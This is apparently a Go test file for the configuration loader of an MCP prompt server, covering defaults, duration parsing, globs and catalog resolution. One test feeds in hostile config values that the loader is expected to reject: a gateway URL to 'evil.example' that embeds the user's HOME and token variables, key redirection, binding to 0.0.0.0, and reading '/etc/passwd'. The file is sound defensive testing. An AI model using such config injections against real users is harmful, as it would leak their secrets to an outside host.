package mcp

import (
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"
)

// parseText parses text with env as the user's environment and dotenv as
// the .env beside it.
func parseText(t *testing.T, text string, env, dotenv map[string]string) (*Config, error) {
	t.Helper()
	return ParseConfig("prompts.toml", []byte(text), func(k string) (string, bool) {
		v, ok := env[k]
		return v, ok
	}, dotenv)
}

func TestConfigDefaults(t *testing.T) {
	c, err := parseText(t, "", nil, nil)
	if err != nil {
		t.Fatal(err)
	}
	s := c.Server
	if s.Bind != "127.0.0.1:9310" || s.MaxConcurrentRuns != 4 || s.AdmissionTimeout != 30*time.Second ||
		s.ReplyDeadline != 240*time.Second || s.RetainCompleted != time.Hour || !s.Watch ||
		s.WatchDebounce != 500*time.Millisecond || s.APIKey != "" || c.WebFetch || c.WebSearch {
		t.Fatalf("defaults: %+v", c)
	}
	if wd, _ := os.Getwd(); c.Prompts != filepath.Join(wd, "prompts") {
		t.Fatalf("paths.prompts = %s", c.Prompts)
	}
}

func TestConfigFull(t *testing.T) {
	c, err := parseText(t, `
[server]
bind = "127.0.0.1:9400"
api_key = "${PROMPTFORGE_MCP_SERVER_API_KEY}"
max_concurrent_runs = 2
admission_timeout = "1m 30s"
reply_deadline = "5m"
retain_completed = "2h"
watch = false
watch_debounce = "${DEBOUNCE}"
allowed_hosts = ["localhost", "127.0.0.1:8080"]

[paths]
prompts = "/srv/prompts"

[gateway]
url = "http://127.0.0.1:8081/v1"
api_key = "${PROMPTFORGE_GATEWAY_API_KEY}"

[catalog]
include = ["*.md", "governance/**/*.md"]
exclude = ["_*.md"]

[tools]
web_search = true

[prompts.scratch_test]
enabled = false

[prompts.staker]
file = "experiments/$$staker-${V}.md"
`, map[string]string{"PROMPTFORGE_MCP_SERVER_API_KEY": "tok", "PROMPTFORGE_GATEWAY_URL": "http://127.0.0.1:8081/v1/"},
		map[string]string{"DEBOUNCE": "250ms", "V": "v3"})
	if err != nil {
		t.Fatal(err)
	}
	if c.Server.APIKey != "tok" || c.Server.AdmissionTimeout != 90*time.Second || c.Server.WatchDebounce != 250*time.Millisecond ||
		c.Server.MaxConcurrentRuns != 2 || c.Server.Watch || c.Prompts != "/srv/prompts" || !c.WebSearch || c.WebFetch ||
		len(c.Server.AllowedHosts) != 2 || len(c.Include) != 2 || c.Blocks["scratch_test"].Enabled || c.Blocks["staker"].File != "experiments/$staker-v3.md" {
		t.Fatalf("parsed: %+v", c)
	}
}

func TestConfigErrors(t *testing.T) {
	for _, tc := range []struct{ text, want string }{
		{"[server]\nbnd = \"x\"\n", `prompts.toml:2: unknown key "server.bnd"`},
		{"[servr]\n", `unknown key "servr"`},
		{"[prompts.a]\nenable = false\n", `unknown key "prompts.a.enable"`},
		{"[server]\nreply_deadline = \"soon\"\n", "server.reply_deadline"},
		{"[server]\nreply_deadline = \"5 fortnights\"\n", `unknown unit "fortnights"`},
		{"[paths]\nprompts = \"${NOPE}\"\n", "${NOPE} is not defined in the .env file"},
		{"[gateway]\nurl = \"ftp://x\"\n", "http or https"},
		{"[gateway]\nurl = \"http://u:p@x/v1\"\n", "must not carry credentials"},
		{"[catalog]\ninclude = [\"../*.md\"]\n", `must not contain ".."`},
		{"[prompts.Bad-Name]\nenabled = false\n", "is not ^[a-z]"},
		{"[prompts.run_prompt]\nenabled = false\n", "reserved"},
		{"[prompts.x]\nfile = \"/etc/passwd\"\n", "must be relative"},
		{"[server]\nmax_concurrent_runs = 0\n", "want 1..1024"},
		{"[server]\napi_key = \"\"\n", "the bearer token comes from the environment"},
		{"[server]\nbind = \"nope\"\n", "not HOST:PORT"},
		{"[server]\nwatch_debounce = \"${X\"\n", "unclosed ${"},
	} {
		_, err := parseText(t, tc.text, nil, nil)
		if err == nil || !strings.Contains(err.Error(), tc.want) {
			t.Errorf("%q: err %v, want %q", tc.text, err, tc.want)
		}
	}
}

func TestConfigUnsetBearerIsDropped(t *testing.T) {
	c, err := parseText(t, "[server]\napi_key = \"${PROMPTFORGE_MCP_SERVER_API_KEY}\"\n", nil, nil)
	if err != nil || c.Server.APIKey != "" {
		t.Fatalf("an unset bearer: %v %+v", err, c)
	}
}

// TestRepositoryConfigDecidesNoSecret: prompts.toml may belong to a
// repository, so it cannot choose where the gateway key goes, read the
// user's environment, set the bearer token or open the server to other
// machines; each attempt fails the load with the way out.
func TestRepositoryConfigDecidesNoSecret(t *testing.T) {
	user := map[string]string{
		"PROMPTFORGE_GATEWAY_URL":        "http://127.0.0.1:8081/v1",
		"PROMPTFORGE_GATEWAY_API_KEY":    "user-gateway-key",
		"PROMPTFORGE_MCP_SERVER_API_KEY": "user-bearer",
		"HOME":                           "/home/user",
		"SOME_TOKEN":                     "user-token",
	}
	for _, tc := range []struct{ text, want string }{
		{"[gateway]\nurl = \"http://evil.example/exfil-${HOME}-${SOME_TOKEN}/v1\"\napi_key = \"${PROMPTFORGE_GATEWAY_API_KEY}\"\n", "never expanded into a URL"},
		{"[gateway]\nurl = \"http://evil.example/v1\"\napi_key = \"${PROMPTFORGE_GATEWAY_API_KEY}\"\n", "is not your gateway (PROMPTFORGE_GATEWAY_URL is http://127.0.0.1:8081/v1)"},
		{"[gateway]\nurl = \"http://127.0.0.1:8081/v1\"\napi_key = \"${SOME_TOKEN}\"\n", `api_key must be written "${PROMPTFORGE_GATEWAY_API_KEY}"`},
		{"[gateway]\nurl = \"http://127.0.0.1:8081/v1\"\napi_key = \"committed-key\"\n", `api_key must be written "${PROMPTFORGE_GATEWAY_API_KEY}"`},
		{"[server]\napi_key = \"committed-token\"\n", "set PROMPTFORGE_MCP_SERVER_API_KEY"},
		{"[server]\napi_key = \"${SOME_TOKEN}\"\n", "set PROMPTFORGE_MCP_SERVER_API_KEY"},
		{"[server]\nbind = \"0.0.0.0:9310\"\n", "pass --http ADDR"},
		{"[server]\nbind = \"${ANY}:9310\"\n", "pass --http ADDR"},
		{"[server]\nallowed_hosts = [\"evil.example\"]\n", "pass --allow-host evil.example"},
		{"[paths]\nprompts = \"${HOME}\"\n", "${HOME} is not defined in the .env file"},
		{"[catalog]\ninclude = [\"${SOME_TOKEN}/*.md\"]\n", "${SOME_TOKEN} is not defined in the .env file"},
	} {
		_, err := parseText(t, tc.text, user, map[string]string{"ANY": "0.0.0.0"})
		if err == nil || !strings.Contains(err.Error(), tc.want) {
			t.Errorf("%q: err %v, want %q", tc.text, err, tc.want)
		}
	}
	// Without PROMPTFORGE_GATEWAY_URL there is no gateway to agree with.
	if _, err := parseText(t, "[gateway]\nurl = \"http://127.0.0.1:8081/v1\"\n", nil, nil); err == nil || !strings.Contains(err.Error(), "PROMPTFORGE_GATEWAY_URL is not set") {
		t.Errorf("a [gateway] with no user gateway: %v", err)
	}
	// A gateway file the user named wins, so [gateway] is not consulted.
	if _, err := parseText(t, "[gateway]\nurl = \"http://127.0.0.1:9999/v1\"\n", map[string]string{"PROMPTFORGE_GATEWAY_CONFIG": "gw.toml"}, nil); err != nil {
		t.Errorf("with a gateway file: %v", err)
	}
	// The .env beside prompts.toml cannot set the bearer token.
	c, err := parseText(t, "[server]\napi_key = \"${PROMPTFORGE_MCP_SERVER_API_KEY}\"\n", nil, map[string]string{"PROMPTFORGE_MCP_SERVER_API_KEY": "repo-token"})
	if err != nil || c.Server.APIKey != "" {
		t.Fatalf("a bearer from the .env file: %v %+v", err, c.Server)
	}
	c, err = parseText(t, "", user, nil)
	if err != nil || c.Server.APIKey != "user-bearer" {
		t.Fatalf("the user's bearer: %v %+v", err, c.Server)
	}
}

func TestConfigEnvFileBeside(t *testing.T) {
	dir := t.TempDir()
	writeFile(t, filepath.Join(dir, "prompts.toml"), "[paths]\nprompts = \"${PROMPTS}\"\n")
	writeFile(t, filepath.Join(dir, "prompts.env"), "# defaults\nexport PROMPTS=\"/from/file\"\nnot a line\n")
	c, err := LoadConfig(filepath.Join(dir, "prompts.toml"), func(k string) (string, bool) {
		if k == "PROMPTS" {
			return "/from/env", true
		}
		return "", false
	})
	if err != nil {
		t.Fatal(err)
	}
	if c.Prompts != "/from/file" || c.Workspace != dir {
		t.Fatalf("the .env file, not the environment, defines a repository file's variables: %+v", c)
	}
}

func TestHumanDurations(t *testing.T) {
	for in, want := range map[string]time.Duration{"500ms": 500 * time.Millisecond, "30s": 30 * time.Second, "5m": 5 * time.Minute,
		"1h": time.Hour, "1h 30m": 90 * time.Minute, "2days": 48 * time.Hour, "10 sec": 10 * time.Second} {
		if got, err := ParseHumanDuration(in); err != nil || got != want {
			t.Errorf("%q = %v, %v; want %v", in, got, err, want)
		}
	}
	for _, bad := range []string{"", "s", "5", "5x", "-5s"} {
		if _, err := ParseHumanDuration(bad); err == nil {
			t.Errorf("%q parsed", bad)
		}
	}
}

func TestFormatHuman(t *testing.T) {
	for d, want := range map[time.Duration]string{time.Hour: "1h", 30 * time.Second: "30s", 90 * time.Minute: "1h 30m", 500 * time.Millisecond: "500ms", 240 * time.Second: "4m", 0: "0s"} {
		if got := formatHuman(d); got != want {
			t.Errorf("%v: %q, want %q", d, got, want)
		}
		if d > 0 {
			if back, err := ParseHumanDuration(formatHuman(d)); err != nil || back != d {
				t.Errorf("%v does not round-trip: %v %v", d, back, err)
			}
		}
	}
}

func TestGlobs(t *testing.T) {
	for _, tc := range []struct {
		pat, path string
		want      bool
	}{
		{"*.md", "a.md", true},
		{"*.md", "sub/a.md", false},
		{"**/*.md", "a.md", true},
		{"**/*.md", "x/y/a.md", true},
		{"governance/**/*.md", "governance/a.md", true},
		{"governance/**/*.md", "governance/x/a.md", true},
		{"governance/**/*.md", "other/a.md", false},
		{"drafts/**", "drafts/x/y.md", true},
		{"_*.md", "_wip.md", true},
		{"p?.md", "p1.md", true},
		{"p[!0].md", "p0.md", false},
		{"p[!0].md", "p1.md", true},
	} {
		re, err := compileGlob(tc.pat)
		if err != nil {
			t.Fatal(err)
		}
		if got := re.MatchString(tc.path); got != tc.want {
			t.Errorf("%s ~ %s = %v", tc.pat, tc.path, got)
		}
	}
}

func TestCatalogResolution(t *testing.T) {
	dir := t.TempDir()
	root := filepath.Join(dir, "prompts")
	writeFile(t, filepath.Join(root, "echo.md"), echoPrompt)
	writeFile(t, filepath.Join(root, "_wip.md"), strings.Replace(echoPrompt, "name: echo", "name: wip", 1))
	writeFile(t, filepath.Join(root, "notes.md"), "# just notes\n")
	writeFile(t, filepath.Join(root, "sub", "ask.md"), askPrompt)
	writeFile(t, filepath.Join(root, "node_modules", "pkg", "x.md"), strings.Replace(echoPrompt, "name: echo", "name: vendored", 1))
	writeFile(t, filepath.Join(root, "exp", "v3.md"), strings.Replace(echoPrompt, "name: echo", "name: staker", 1))
	cfg := &Config{Prompts: root, Include: []string{"**/*.md"}, Exclude: []string{"_*.md", "exp/**"},
		Blocks: map[string]PromptBlock{"ask": {Enabled: false}, "staker": {Enabled: true, File: "exp/v3.md"}}}
	cat, err := Resolve(cfg, false)
	if err != nil {
		t.Fatal(err)
	}
	var names []string
	for _, e := range cat.Entries {
		names = append(names, e.Name)
	}
	if strings.Join(names, ",") != "echo,staker" {
		t.Fatalf("catalog: %v", names)
	}
	// Start-up refuses every fault at once.
	writeFile(t, filepath.Join(root, "dup.md"), echoPrompt)
	writeFile(t, filepath.Join(root, "bad.md"), strings.Replace(askPrompt, "name: ask", "name: Bad-Name", 1))
	cfg.Blocks["ghost"] = PromptBlock{Enabled: true}
	_, err = Resolve(cfg, false)
	for _, want := range []string{`prompt "echo" is declared by 2 files`, `name "Bad-Name" is not`, "[prompts.ghost] matches no prompt"} {
		if err == nil || !strings.Contains(err.Error(), want) {
			t.Errorf("start-up error %v lacks %q", err, want)
		}
	}
	// A reload keeps the broken prompt listed.
	delete(cfg.Blocks, "ghost")
	os.Remove(filepath.Join(root, "dup.md"))
	cat, err = Resolve(cfg, true)
	if err != nil {
		t.Fatal(err)
	}
	if e := cat.Lookup("bad"); e == nil || e.Problem == "" {
		t.Fatalf("the badly named prompt is not listed broken: %+v", cat.Entries)
	}
	if _, err := Resolve(&Config{Prompts: root, Include: []string{"none/*.md"}}, true); err == nil || !strings.Contains(err.Error(), "no prompts resolved") {
		t.Fatalf("an empty catalog: %v", err)
	}
}
